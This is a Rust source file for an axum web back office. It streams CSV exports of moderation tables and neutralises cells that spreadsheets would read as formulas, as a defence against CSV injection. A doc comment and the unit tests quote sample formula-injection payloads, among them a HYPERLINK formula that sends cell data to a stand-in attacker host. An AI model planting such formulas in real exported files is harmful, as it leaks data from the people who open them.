//! CSV downloads for the back office's tables: comma separated, every text quoted, a
//! byte-order mark first (so spreadsheet programs read UTF-8), then a header row, then the
//! rows, streamed batch by batch as the table query yields them. Spec §8's two export errors
//! are answered before the first byte: no columns, and nothing to export.
//!
//! Cells come from members (post titles and texts, report explanations) and from anyone
//! (crash reports): every cell a spreadsheet would read as a formula is neutralised here, once,
//! for every export (OWASP's CSV injection advice).
//!
//! An export reads a whole table, so only `MAX_EXPORTS` run at once in a process; one more is
//! a 429 with `Retry-After` rather than a queue of table scans.

use axum::body::Body;
use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};
use bytes::Bytes;
use common::{AppError, Result};
use futures_util::{Stream, StreamExt, stream};
use moderation::service::tables::CsvColumn;
use tokio::sync::Semaphore;

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Exports streaming at once, in this process.
pub const MAX_EXPORTS: usize = 4;
static EXPORTS: Semaphore = Semaphore::const_new(MAX_EXPORTS);
pub const EXPORTS_BUSY: &str =
    "Other exports are running right now. Please try again in a few seconds.";

pub const NO_COLUMNS: &str = "There are no columns to export.";
pub const NOTHING_TO_EXPORT: &str = "There is nothing to export.";

/// A CSV file named `filename` with `headers`, whose rows come from `batches`. The first batch
/// is read before answering, so an export with no matching row is a 404 `{error}`, not an
/// empty file.
pub async fn download<T: Send + 'static>(
    filename: &'static str,
    columns: &'static [CsvColumn<T>],
    batches: impl Stream<Item = Result<Vec<T>>> + Send + 'static,
) -> Response {
    if columns.is_empty() {
        return refuse(AppError::Internal(NO_COLUMNS.into()));
    }
    // Held until the last byte is out or the client goes away (the stream is dropped).
    let Ok(permit) = EXPORTS.try_acquire() else {
        return refuse(AppError::rate_limited(EXPORTS_BUSY, 5));
    };
    let mut batches = Box::pin(batches);
    let first = match batches.next().await {
        Some(Ok(items)) if !items.is_empty() => items,
        Some(Err(err)) => return refuse(err),
        _ => return refuse(AppError::Withheld(NOTHING_TO_EXPORT)),
    };
    let head = stream::once(async move {
        let mut bytes = BOM.to_vec();
        bytes.extend(encode(columns.iter().map(|c| c.header.to_owned())));
        Ok::<_, std::io::Error>(Bytes::from(bytes))
    });
    let rows = stream::once(async move { Ok(first) })
        .chain(batches)
        .map(move |batch| {
            let _held = &permit;
            encode_batch(batch, columns)
        });
    let mut response = Body::from_stream(head.chain(rows)).into_response();
    let headers = response.headers_mut();
    headers.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    if let Ok(value) = HeaderValue::from_str(&format!("attachment; filename=\"{filename}\"")) {
        headers.insert(header::CONTENT_DISPOSITION, value);
    }
    response
}

/// A batch's records. A failure ends the download broken, not short: the status is out.
fn encode_batch<T>(batch: Result<Vec<T>>, columns: &[CsvColumn<T>]) -> std::io::Result<Bytes> {
    match batch {
        Ok(items) => Ok(Bytes::from(
            items
                .iter()
                .flat_map(|item| encode(columns.iter().map(|c| (c.cell)(item))))
                .collect::<Vec<u8>>(),
        )),
        Err(err) => {
            err.log_if_internal();
            Err(std::io::Error::other("export stopped"))
        }
    }
}

/// One record: every field quoted, quotes doubled, formulas neutralised, CRLF at the end.
fn encode(fields: impl IntoIterator<Item = String>) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    // Writing to memory cannot fail; an empty record is the worst outcome.
    let _ = writer.write_record(fields.into_iter().map(neutralise));
    writer.into_inner().unwrap_or_default()
}

/// A cell that starts with `=`, `+`, `-` or `@` (also after leading whitespace), or with a tab
/// or a carriage return, is a formula to Excel, LibreOffice and Google Sheets: a member could
/// write `=HYPERLINK("https://evil.example/?"&A1, "Open")` into a post and have it run on an
/// admin's machine. Such a cell starts with a single quote instead, which shows it as text.
fn neutralise(cell: String) -> String {
    let formula =
        cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@']);
    if formula { format!("'{cell}") } else { cell }
}

/// A refusal before the download starts is an ordinary error answer.
pub fn refuse(err: AppError) -> Response {
    edge::ApiError(err).into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_are_quoted_with_quotes_doubled() {
        assert_eq!(
            String::from_utf8(encode(["a".into(), "say \"hi\", ok".into(), String::new()]))
                .unwrap(),
            "\"a\",\"say \"\"hi\"\", ok\",\"\"\r\n"
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_neutralised() {
        for formula in [
            "=HYPERLINK(\"https://evil.example\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\tcmd",
            "\r=cmd",
            "  =1+1",
            "\n@x",
        ] {
            assert_eq!(neutralise(formula.to_owned()), format!("'{formula}"));
        }
        for text in [
            "Hello",
            "a=b",
            "email@example.org",
            "",
            "November 23rd, 2026",
        ] {
            assert_eq!(neutralise(text.to_owned()), text);
        }
        assert_eq!(
            String::from_utf8(encode(["=1+1".into(), "ok".into()])).unwrap(),
            "\"'=1+1\",\"ok\"\r\n"
        );
    }
}
